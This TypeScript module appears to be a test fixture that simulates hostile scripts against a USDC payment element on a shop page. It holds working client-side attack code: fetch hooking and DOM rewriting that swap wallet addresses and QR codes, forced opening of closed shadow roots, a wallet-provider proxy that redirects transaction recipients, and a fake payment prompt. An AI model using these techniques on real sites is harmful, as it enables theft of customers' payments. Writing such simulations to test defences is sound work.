// What a hostile script on the shop's page does, loaded before ours. Each runs in the page itself,
// never in a frame of another origin: there it has no business.

/** Where the thief wants the money. */
export const thief = '0x00000000000000000000000000000000DeaDBeef'

/** Rewrites every address in the answers of `fetch`. */
export function hookFetch(address: string): void {
  if (window !== window.top) return
  const original = window.fetch
  window.fetch = async (...request) => {
    const response = await original(...request)
    const swap = new TransformStream<string, string>({
      transform: (text, out) => out.enqueue(text.replaceAll(/0x[0-9a-fA-F]{40}\b/g, address)),
    })
    const body = response.body
      ?.pipeThrough(new TextDecoderStream() as ReadableWritablePair<string, Uint8Array>)
      .pipeThrough(swap)
      .pipeThrough(new TextEncoderStream())
    return new Response(body ?? null, { status: response.status, headers: response.headers })
  }
}

/** Walks the page and every open shadow root, and rewrites addresses and codes wherever they appear. */
export function walkPage(address: string): void {
  if (window !== window.top) return
  const digits = address.slice(2).match(/.{4}/g) as string[]
  const visit = (node: Node) => {
    if (node instanceof Element) {
      if (node.matches('[part=address] > span, code > span') && node.textContent?.length === 4) {
        const at = [...(node.parentElement?.children ?? [])]
          .filter((one) => /^[0-9a-fA-F]{4}$/.test(one.textContent ?? ''))
          .indexOf(node)
        const group = digits[at] ?? ''
        if (node.textContent !== group) node.textContent = group
      }
      if (node.matches('.code path') && node.getAttribute('d') !== 'M4 4h1v1z') {
        node.setAttribute('d', 'M4 4h1v1z')
      }
      if (node.shadowRoot !== null) watch(node.shadowRoot)
    }
    for (const child of node.childNodes) visit(child)
  }
  const watched = new WeakSet<Node>()
  const watch = (root: Node) => {
    visit(root)
    if (watched.has(root)) return
    watched.add(root)
    new MutationObserver(() => visit(root)).observe(root, {
      subtree: true,
      childList: true,
      characterData: true,
    })
  }
  // A node's root is attached after the node: look again with every frame that is drawn.
  const again = () => {
    visit(document)
    requestAnimationFrame(again)
  }
  again()
}

/** Opens every shadow root, so that walking reaches closed ones as well. */
export function hookAttachShadow(): void {
  if (window !== window.top) return
  const original = Element.prototype.attachShadow
  Element.prototype.attachShadow = function attachShadow(init) {
    return original.call(this, { ...init, mode: 'open' })
  }
}

/** Stands in for every wallet and rewrites whom its transactions pay. */
export function hookWallet(address: string): void {
  if (window !== window.top) return
  type Request = { method: string; params?: { data?: string }[] }
  type Provider = { request: (request: Request) => Promise<unknown> }
  const rewrite = (request: Request): Request => {
    const data = request.params?.[0]?.data
    if (request.method !== 'eth_sendTransaction' || data === undefined) return request
    const to = address.slice(2).toLowerCase().padStart(64, '0')
    const changed = data.slice(0, 10) + to + data.slice(74)
    return { ...request, params: [{ ...request.params?.[0], data: changed }] }
  }
  const taken = new WeakMap<Provider, Provider>()
  const takeOver = (provider: Provider): Provider => {
    const known = taken.get(provider)
    if (known !== undefined) return known
    const proxy = new Proxy(provider, {
      get: (target, name) => {
        if (name === 'request') return (request: Request) => target.request(rewrite(request))
        const value = Reflect.get(target, name, target) as unknown
        return typeof value === 'function' ? value.bind(target) : value
      },
    })
    taken.set(provider, proxy)
    return proxy
  }
  addEventListener(
    'eip6963:announceProvider',
    (event) => {
      const { detail } = event as CustomEvent<{ info: object; provider: Provider }>
      if (taken.has(detail.provider) === false && [...proxies].includes(detail.provider)) return
      event.stopImmediatePropagation()
      const provider = takeOver(detail.provider)
      proxies.add(provider)
      dispatchEvent(
        new CustomEvent('eip6963:announceProvider', { detail: { info: detail.info, provider } }),
      )
    },
    true,
  )
  const proxies = new Set<Provider>()
}

/** Hands our element another order than the page's own. */
export function swapOrder({ order, cart }: { order: string; cart: string }): void {
  if (window !== window.top) return
  const original = Element.prototype.setAttribute
  Element.prototype.setAttribute = function setAttribute(name, value) {
    const swapped = { order, cart }[name]
    original.call(this, name, this.localName === 'pay-with-usdc' ? (swapped ?? value) : value)
  }
}

/** Hides our element and shows its own in its place. */
export function replaceElement(address: string): void {
  if (window !== window.top) return
  new MutationObserver(() => {
    const element = document.querySelector<HTMLElement>('pay-with-usdc')
    if (element === null || element.hidden) return
    element.style.display = 'none'
    element.hidden = true
    const fake = document.createElement('div')
    fake.id = 'fake'
    fake.textContent = `Send USDC to ${address}`
    element.before(fake)
  }).observe(document, { subtree: true, childList: true })
}
